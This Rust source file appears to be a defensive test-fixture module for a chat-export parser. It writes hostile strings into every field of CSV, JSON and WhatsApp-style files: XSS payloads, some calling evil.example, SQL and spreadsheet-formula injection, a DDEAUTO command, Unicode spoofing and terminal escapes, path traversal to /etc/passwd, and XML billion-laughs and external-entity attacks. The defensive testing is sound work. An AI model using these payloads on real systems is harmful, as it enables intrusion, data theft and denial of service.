//! Words that are harmless as words only: scripts, formulas, marks that turn text round, escapes of terminals.
//! Each is written into every field that a format has.

use super::{Fate, Hostile, Keeps};

const SCRIPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "\"><script>fetch('//evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{@html '<script>alert(1)</script>'}",
    "'; DROP TABLE messages; --",
    "' OR '1'='1",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)",
    "\\u003cscript\\u003ealert(1)",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "]]></w:t><w:instrText>DDEAUTO cmd</w:instrText>",
    "(x) Tj /JavaScript /S /JS (app.alert(1))",
];

/// What a spreadsheet would run.
const FORMULAS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil.example\";\"x\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "\t=1+1",
    "＝1+1",
];

/// Marks that hide or turn what stands around them, and what terminals obey.
const DISGUISES: &[&str] = &[
    "\u{202E}gpj.exe",
    "a\u{202A}b\u{202B}c\u{202C}d\u{202D}e",
    "\u{2066}a\u{2067}b\u{2068}c",
    "\u{2069}\u{202C}\u{202C}",
    "a\u{200B}b\u{200C}c\u{200D}d\u{2060}e\u{FEFF}f",
    "раypаl.com",
    "\u{1B}[31mred\u{1B}[0m",
    "\u{1B}]0;title\u{7}",
    "\u{1B}[2J\u{1B}[H",
    "\u{9B}31m",
    "a\u{8}\u{8}b",
    "a\u{7F}b",
    "\u{E0041}\u{E0042}\u{E0043}",
    "Z\u{0351}\u{036B}\u{0343}\u{036A}\u{0302}\u{036B}\u{033D}\u{034F}\u{0334}\u{0319}",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "ﷺ\u{FDFD}𒐫",
    "\u{2028}\u{2029}\u{85}x",
    "\u{FFF9}a\u{FFFA}b\u{FFFB}",
    "\u{1D173}\u{1D17A}x",
    "../../../etc/passwd",
    "C:\\Windows\\system32",
    "CON",
    "a/b\\c:d*e?f\"g<h>i|j",
    ".",
    "file:///etc/passwd",
];

pub fn all() -> Vec<Hostile> {
    let of = |what: &'static str, words: &'static [&'static str]| {
        words.iter().enumerate().flat_map(move |(n, words)| in_every_field(&format!("{what}_{n}"), words))
    };
    of("script", SCRIPTS)
        .chain(of("formula", FORMULAS))
        .chain(of("disguise", DISGUISES))
        .chain(xml())
        .collect()
}

/// A table and plain JSON in which every field holds the words, and a chat that names a file so.
fn in_every_field(name: &str, words: &str) -> [Hostile; 3] {
    let cell = format!("\"{}\"", words.replace('"', "\"\""));
    let table =
        format!("会话,会话名称,时间,发送人,角色,内容\n{cell},{cell},2024-01-01 10:00,{cell},{cell},{cell}\n");
    let quoted = serde_json::to_string(words).expect("a string");
    let json = format!(
        r#"[{{"id":{quoted},"conversation_id":{quoted},"title":{quoted},"time":"2024-01-01 10:00","sender":{quoted},"text":{quoted},{quoted}:{quoted}}}]"#
    );
    let mentions = format!(
        "2024-03-01 10:00 - {words}: {words}\n2024-03-01 10:01 - A: {words}.jpg (file attached)\n2024-03-01 10:02 - A: ok\n"
    );
    let plain: String = words.chars().filter(|c| !matches!(c, '/' | '\0')).take(60).collect();
    let json = Hostile::of(format!("{name}_json"), "data.json", json)
        .fate(Fate::Read)
        .keeps(Keeps::Text(words.to_owned()));
    let table = Hostile::of(format!("{name}_table"), "table.csv", table);
    let chat = Hostile::of(format!("{name}_chat"), format!("WhatsApp Chat with {plain}.txt"), mentions);
    // So many control characters in so few bytes are no text.
    if words.contains(['\u{7}', '\u{8}']) {
        return [json, table, chat];
    }
    let table = table.fate(Fate::Read).keeps(Keeps::TextAndNotes(words.to_owned()));
    [json, table.printed(), chat.fate(Fate::Read).printed()]
}

/// Entities that multiply, under every name a file can have.
fn xml() -> Vec<Hostile> {
    let level = |n: u32| format!("<!ENTITY l{n} \"{}\">\n", format!("&l{};", n - 1).repeat(10));
    let levels = (1..10).map(level).collect::<Vec<_>>().concat();
    let laughs =
        format!("<?xml version=\"1.0\"?>\n<!DOCTYPE l [<!ENTITY l0 \"ha\">\n{levels}]>\n<l>&l9;</l>\n");
    let file = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>\n";
    let names = ["a.xml", "a.json", "a.csv", "a.txt", "a.html"];
    names
        .iter()
        .flat_map(|name| {
            [("laughs", laughs.clone()), ("external", file.to_owned())].map(|(what, text)| {
                Hostile::of(format!("xml_{what}_{}", &name[2..]), *name, text).fate(Fate::Refused)
            })
        })
        .collect()
}
